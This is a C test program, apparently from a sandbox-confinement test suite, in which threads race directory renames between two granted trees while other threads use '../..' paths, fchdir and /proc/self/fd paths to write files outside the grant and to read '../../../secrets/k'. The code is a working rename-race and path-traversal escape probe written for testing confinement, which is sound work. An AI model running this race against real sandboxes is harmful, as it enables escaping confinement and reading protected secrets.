/* A directory moves between two grants while names lead upwards from it. */
#include "attack.h"

static volatile int stop;
static int opens, moves, root; /* use changes the directory that all threads stand in */
static void *move_(void *x) {
  while (!stop) {
    moves += !renameat(root, "src/x/p", root, "gen/out/p");
    renameat(root, "gen/out/p", root, "src/x/p");
    renameat2(root, "src/x/q", root, "gen/out/q", RENAME_EXCHANGE);
  }
}
static void *use(void *x) {
  int d = -1, e = openat(root, "src/x/q", O_RDONLY | O_DIRECTORY), fd;
  struct timespec ts[2] = {{1, 0}, {1, 0}};
  char p[64];
  while (d < 0 && !stop) {
    d = openat(root, "src/x/p", O_PATH | O_DIRECTORY);
    if (d < 0) d = openat(root, "gen/out/p", O_PATH | O_DIRECTORY);
  }
  fchdir(d);
  while (!stop) {
    fd = openat(d, "../../f", O_WRONLY | O_TRUNC); if (fd >= 0) { write(fd, "tool", 4); opens++; close(fd); }
    fd = open("../../f", O_RDWR | O_CREAT, 0644); if (fd >= 0) { write(fd, "tool", 4); close(fd); }
    fd = openat(e, "../../f", O_WRONLY | O_APPEND); if (fd >= 0) { write(fd, "tool", 4); close(fd); }
    truncate("../../f", 2); chmod("../../f", 0606); utimensat(d, "../../f", ts, 0);
    fd = open("../../new", O_CREAT | O_WRONLY, 0644); close(fd);
    mkdirat(d, "../../dir", 0755); unlinkat(d, "../../dir", AT_REMOVEDIR); unlinkat(e, "../../new", 0);
    symlinkat("x", d, "../../sym"); unlinkat(d, "../../sym", 0);
    snprintf(p, sizeof p, "/proc/self/fd/%d/../../f", d);
    fd = open(p, O_WRONLY); if (fd >= 0) { write(fd, "tool", 4); close(fd); }
    int up = openat(d, "../..", O_PATH | O_DIRECTORY);
    fd = openat(up, "f", O_WRONLY); if (fd >= 0) { write(fd, "tool", 4); close(fd); }
    renameat(up, "new", up, "f"); close(up);
    spill(openat(d, "../../../secrets/k", O_RDONLY), "..");
    unlinkat(d, "../../f", 0); fd = openat(d, "../../f", O_CREAT | O_WRONLY | O_EXCL, 0644); if (fd >= 0) { write(fd, "tool", 4); close(fd); }
    lap();
  }
}
int main(void) {
  root = open(".", O_PATH | O_DIRECTORY);
  mkdir("src/x", 0755); mkdir("src/x/p", 0755); mkdir("src/x/q", 0755); mkdir("gen/out/q", 0755); put("src/f", "fine");
  pthread_t t[5];
  for (int i = 1; i < 5; i++) pthread_create(t + i, 0, use, 0);
  pthread_create(t, 0, move_, 0);
  laps(ROUNDS(70));
  while (!opens || !moves) laps(1);
  stop = 1;
  for (int i = 0; i < 5; i++) pthread_join(t[i], 0);
  if (opens) good("update by ..");
  if (moves) good("move");
  note("%d opens, %d moves", opens, moves);
}
